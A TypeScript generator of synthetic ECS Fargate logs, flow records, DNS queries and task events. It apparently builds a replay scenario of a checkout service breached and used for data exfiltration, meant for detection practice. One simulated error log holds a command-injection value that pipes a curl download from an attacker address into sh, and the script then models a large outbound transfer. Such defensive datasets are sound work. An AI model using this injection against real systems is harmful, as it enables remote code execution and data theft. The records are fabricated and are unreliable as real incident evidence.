/** Makes the records of this story, in the published formats, the same bytes each time: `node replay-data/fargate-exfiltration/make.ts`. */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';

const minuteMs = 60_000;
const hourMs = 60 * minuteMs;
const startMs = Date.UTC(2026, 2, 2);
const endMs = Date.UTC(2026, 2, 5, 12);
/** When the intruder sends the first command. */
const intrusionMs = Date.UTC(2026, 2, 5, 10, 14, 37);

const account = '111122223333';
const region = 'eu-west-1';
const cluster = 'shop';
const service = 'checkout';
const arn = (rest: string): string => `arn:aws:ecs:${region}:${account}:${rest}`;

/** Mulberry32, a small generator with a seed: the story must not change from one making to the next. */
function seeded(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

const random = seeded(20_260_302);
const between = (low: number, high: number): number => Math.floor(low + random() * (high - low));
const hex = (digits: number): string => Array.from({ length: digits }, () => between(0, 16).toString(16)).join('');
const uuid = (): string => [8, 4, 4, 4, 12].map(hex).join('-');

interface Task {
  id: string;
  revision: number;
  address: string;
  networkInterface: string;
  dockerId: string;
  fromMs: number;
  toMs: number;
  stoppedReason: string;
  /** Counters that only grow, as the metadata endpoint gives them. */
  cpuNs: number;
  rxBytes: number;
  txBytes: number;
}

function task(revision: number, fromMs: number, toMs: number, stoppedReason: string): Task {
  const id = hex(32);
  return {
    id, revision, fromMs, toMs, stoppedReason,
    address: `10.0.${between(16, 32)}.${between(10, 250)}`,
    networkInterface: `eni-${hex(17)}`,
    dockerId: `${id}-${between(1_000_000_000, 4_000_000_000)}`,
    cpuNs: 0, rxBytes: 0, txBytes: 0,
  };
}

const deployedMs = Date.UTC(2026, 2, 3, 14, 5);
const stoppedMs = Date.UTC(2026, 2, 5, 10, 41);
const byDeployment = '(deployment ecs-svc/0042) Scaling activity initiated by deployment';
const tasks = [
  task(41, startMs, deployedMs + 2 * minuteMs, byDeployment),
  task(41, startMs, deployedMs + 3 * minuteMs, byDeployment),
  task(42, deployedMs, endMs, ''),
  task(42, deployedMs + minuteMs, stoppedMs, 'Task stopped by user'),
  task(42, Date.UTC(2026, 2, 4, 12), Date.UTC(2026, 2, 4, 15), 'Scaling activity initiated by policy'),
  task(42, stoppedMs + minuteMs, endMs, ''),
];
const victim = tasks[3]!;

interface Line {
  timeMs: number;
  text: string;
}
const logs: Line[] = [];
const flows: Line[] = [];
const lookups: Line[] = [];
const events: Line[] = [];
const metadata: Line[] = [];

function log(of: Task, timeMs: number, text: string, source: 'stdout' | 'stderr' = 'stdout'): void {
  logs.push({
    timeMs,
    text: JSON.stringify({
      date: new Date(timeMs).toISOString(), source, log: text,
      container_id: of.dockerId, container_name: 'app', ecs_cluster: cluster,
      ecs_task_arn: arn(`task/${cluster}/${of.id}`), ecs_task_definition: `${service}:${of.revision}`,
    }),
  });
}

const flowFields =
  'version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status pkt-srcaddr pkt-dstaddr region pkt-dst-aws-service flow-direction ecs-cluster-name ecs-service-name ecs-task-id';

function flow(of: Task, endOfFlowMs: number, to: string, port: number, bytes: number, awsService = '-'): void {
  const end = Math.floor(endOfFlowMs / 1_000);
  of.txBytes += bytes;
  flows.push({
    timeMs: endOfFlowMs,
    text: [
      7, account, of.networkInterface, of.address, to, between(32_768, 60_999), port, 6, Math.ceil(bytes / 1_400), bytes, end - 55, end,
      'ACCEPT', 'OK', of.address, to, region, awsService, 'egress', cluster, service, of.id,
    ].join(' '),
  });
}

function lookup(of: Task, timeMs: number, name: string, addresses: string[]): void {
  lookups.push({
    timeMs,
    text: JSON.stringify({
      version: '1.100000', account_id: account, region, vpc_id: 'vpc-0a1b2c3d4e5f60718',
      query_timestamp: `${new Date(timeMs).toISOString().slice(0, 19)}Z`, query_name: `${name}.`, query_type: 'A', query_class: 'IN', rcode: 'NOERROR',
      answers: addresses.map((address) => ({ Rdata: address, Type: 'A', Class: 'IN' })),
      srcaddr: of.address, srcport: String(between(32_768, 60_999)), transport: 'UDP', srcids: {},
    }),
  });
}

function stateChange(of: Task, timeMs: number, lastStatus: string, desiredStatus: string): void {
  const time = new Date(timeMs).toISOString();
  const isStopped = lastStatus === 'STOPPED';
  events.push({
    timeMs,
    text: JSON.stringify({
      version: '0', id: uuid(), 'detail-type': 'ECS Task State Change', source: 'aws.ecs', account, time, region,
      resources: [arn(`task/${cluster}/${of.id}`)],
      detail: {
        attachments: [{
          id: uuid(), type: 'eni', status: isStopped ? 'DELETED' : 'ATTACHED',
          details: [{ name: 'networkInterfaceId', value: of.networkInterface }, { name: 'privateIPv4Address', value: of.address }],
        }],
        clusterArn: arn(`cluster/${cluster}`),
        containers: [{ containerArn: arn(`container/${cluster}/${of.id}/${uuid()}`), lastStatus, name: 'app', image: `${account}.dkr.ecr.${region}.amazonaws.com/${service}:${of.revision}`, taskArn: arn(`task/${cluster}/${of.id}`) }],
        createdAt: new Date(of.fromMs - 40_000).toISOString(), cpu: '512', memory: '1024', desiredStatus, group: `service:${service}`, lastStatus, launchType: 'FARGATE',
        startedAt: new Date(of.fromMs).toISOString(), taskArn: arn(`task/${cluster}/${of.id}`), taskDefinitionArn: arn(`task-definition/${service}:${of.revision}`),
        ...(desiredStatus === 'STOPPED' ? { stopCode: of.stoppedReason.endsWith('user') ? 'UserInitiated' : 'ServiceSchedulerInitiated', stoppedReason: of.stoppedReason } : {}),
        ...(isStopped ? { stoppedAt: time } : {}),
        updatedAt: time, version: isStopped ? 5 : 3,
      },
    }),
  });
}

function deployment(timeMs: number, eventName: string, reason: string): void {
  events.push({
    timeMs,
    text: JSON.stringify({
      version: '0', id: uuid(), 'detail-type': 'ECS Deployment State Change', source: 'aws.ecs', account, time: new Date(timeMs).toISOString(), region,
      resources: [arn(`service/${cluster}/${service}`)],
      detail: { eventType: 'INFO', eventName, deploymentId: 'ecs-svc/0042', updatedAt: new Date(timeMs).toISOString(), reason },
    }),
  });
}

/** Answers of the metadata endpoint that a router asked for: the task once, then its stats. */
function taskAnswer(of: Task): void {
  metadata.push({
    timeMs: of.fromMs,
    text: JSON.stringify({
      Cluster: arn(`cluster/${cluster}`), TaskARN: arn(`task/${cluster}/${of.id}`), Family: service, Revision: String(of.revision), ServiceName: service,
      DesiredStatus: 'RUNNING', KnownStatus: 'RUNNING', Limits: { CPU: 0.5, Memory: 1024 }, AvailabilityZone: `${region}a`, LaunchType: 'FARGATE',
      Containers: [{
        DockerId: of.dockerId, Name: 'app', DockerName: 'app', Image: `${account}.dkr.ecr.${region}.amazonaws.com/${service}:${of.revision}`,
        DesiredStatus: 'RUNNING', KnownStatus: 'RUNNING', Limits: { CPU: 512, Memory: 1024 },
        CreatedAt: new Date(of.fromMs - 5_000).toISOString(), StartedAt: new Date(of.fromMs).toISOString(), Type: 'NORMAL',
        ContainerARN: arn(`container/${cluster}/${of.id}/${uuid()}`),
        Networks: [{ NetworkMode: 'awsvpc', IPv4Addresses: [of.address], AttachmentIndex: 0 }],
      }],
    }),
  });
}

function stats(of: Task, timeMs: number, requests: number, sinceMs: number): void {
  of.cpuNs += Math.round(((sinceMs / 1_000) * 0.02 + requests * 0.035) * 1e9 * (0.85 + 0.3 * random()));
  of.rxBytes += requests * between(9_000, 14_000);
  const memory = 260 * 1_048_576 + between(0, 12 * 1_048_576);
  metadata.push({
    timeMs,
    text: JSON.stringify({
      [of.dockerId]: {
        read: new Date(timeMs).toISOString(), preread: new Date(timeMs - 1_000).toISOString(), name: 'app', id: of.dockerId, num_procs: 0,
        cpu_stats: { cpu_usage: { total_usage: of.cpuNs, usage_in_kernelmode: Math.round(of.cpuNs * 0.1), usage_in_usermode: Math.round(of.cpuNs * 0.9) }, system_cpu_usage: timeMs * 2_000_000, online_cpus: 2 },
        memory_stats: { usage: memory, max_usage: memory + 4_194_304, limit: 1_073_741_824, stats: { cache: 8_388_608 } },
        networks: { eth1: { rx_bytes: of.rxBytes, rx_packets: Math.ceil(of.rxBytes / 900), tx_bytes: of.txBytes, tx_packets: Math.ceil(of.txBytes / 1_100) } },
      },
    }),
  });
}

/** Orders a minute and task: few at night, many in the evening, fewer on each of more tasks. */
function ordersAt(timeMs: number): number {
  const hour = (timeMs % (24 * hourMs)) / hourMs;
  const mean = 1.6 + 1.3 * Math.sin(((hour - 8) / 24) * 2 * Math.PI);
  return Math.max(0, Math.round(mean + (random() - 0.5) * 1.6));
}

const database = '10.0.48.12';
const payments = { name: 'api.payments.example', addresses: ['203.0.113.20', '203.0.113.21'] };
const receipts = { name: `receipts.s3.${region}.amazonaws.com`, addresses: ['52.218.40.10', '52.218.40.11', '52.218.40.12'] };
const pick = (from: readonly string[]): string => from[between(0, from.length)]!;

function minute(of: Task, minuteStartMs: number): void {
  const orders = ordersAt(minuteStartMs);
  const at = (): number => minuteStartMs + between(0, minuteMs);
  if (minuteStartMs % (5 * minuteMs) === 0) {
    lookup(of, at(), payments.name, payments.addresses);
    lookup(of, at(), receipts.name, [pick(receipts.addresses)]);
    log(of, at(), `INFO health ok, pool ${between(1, 6)}/20`);
  }
  for (let order = 0; order < orders; order += 1) {
    const timeMs = at();
    log(of, timeMs, `INFO order ${uuid()} placed: ${between(1, 9)} items, total ${between(5, 240)}.${between(10, 99)} EUR in ${between(40, 260)} ms`);
    if (random() < 0.04) log(of, timeMs + 200, `WARN payment of order ${uuid()} declined: insufficient funds`);
    if (random() < 0.02) log(of, timeMs + 300, `WARN slow query on orders: ${between(500, 1_900)} ms`);
  }
  flow(of, minuteStartMs + 58_000, database, 5432, between(4_000, 9_000) + orders * between(5_000, 9_000));
  if (orders > 0) flow(of, minuteStartMs + 57_000, pick(payments.addresses), 443, orders * between(60_000, 190_000));
  if (minuteStartMs % (3 * minuteMs) === 0) flow(of, minuteStartMs + 56_000, pick(receipts.addresses), 443, between(90_000, 700_000), 'S3');
  if (minuteStartMs % (10 * minuteMs) === 0) stats(of, minuteStartMs + 59_000, orders * 10, 10 * minuteMs);
}

function intrusion(): void {
  const dropAddress = '198.51.100.77';
  log(victim, intrusionMs, "ERROR import of catalogue failed: cannot parse 'x; curl -s http://198.51.100.77/i | sh'", 'stderr');
  log(victim, intrusionMs + 1_900, 'sh: 1: curl: not found', 'stderr');
  log(victim, intrusionMs + 41_000, 'sh: 1: wget: not found', 'stderr');
  lookup(victim, intrusionMs + 95_000, 'drop.files-cdn.example', [dropAddress]);
  flow(victim, Date.UTC(2026, 2, 5, 10, 16, 58), dropAddress, 443, 18_400);
  flow(victim, Date.UTC(2026, 2, 5, 10, 17, 58), dropAddress, 443, 41_318_204);
  flow(victim, Date.UTC(2026, 2, 5, 10, 18, 58), dropAddress, 443, 22_790);
}

function write(name: string, lines: Line[], header = ''): void {
  const folder = join(import.meta.dirname, 'records');
  mkdirSync(folder, { recursive: true });
  const text = lines.toSorted((left, right) => left.timeMs - right.timeMs).map((line) => `${line.text}\n`).join('');
  writeFileSync(join(folder, name), gzipSync(`${header}${text}`, { level: 9 }));
}

for (const one of tasks) {
  stateChange(one, one.fromMs, 'RUNNING', 'RUNNING');
  taskAnswer(one);
  log(one, one.fromMs + 1_500, `INFO ${service} ${one.revision} listening on 8080`);
}
for (let nowMs = startMs; nowMs < endMs; nowMs += minuteMs) {
  if (nowMs === Date.UTC(2026, 2, 5, 10, 14)) intrusion();
  for (const one of tasks) if (nowMs >= one.fromMs && nowMs < one.toMs) minute(one, nowMs);
}
for (const one of tasks) {
  if (one.stoppedReason === '') continue;
  log(one, one.toMs - 700, 'INFO SIGTERM received, finishing open orders');
  stateChange(one, one.toMs - 1_000, 'RUNNING', 'STOPPED');
  stateChange(one, one.toMs + 20_000, 'STOPPED', 'STOPPED');
}
deployment(deployedMs - 30_000, 'SERVICE_DEPLOYMENT_IN_PROGRESS', 'ECS deployment ecs-svc/0042 in progress.');
deployment(deployedMs + 5 * minuteMs, 'SERVICE_DEPLOYMENT_COMPLETED', 'ECS deployment ecs-svc/0042 completed.');

write('logs.ndjson.gz', logs);
write('flows.log.gz', flows, `${flowFields}\n`);
write('dns.ndjson.gz', lookups);
write('ecs-events.ndjson.gz', events);
write('task-metadata.ndjson.gz', metadata);
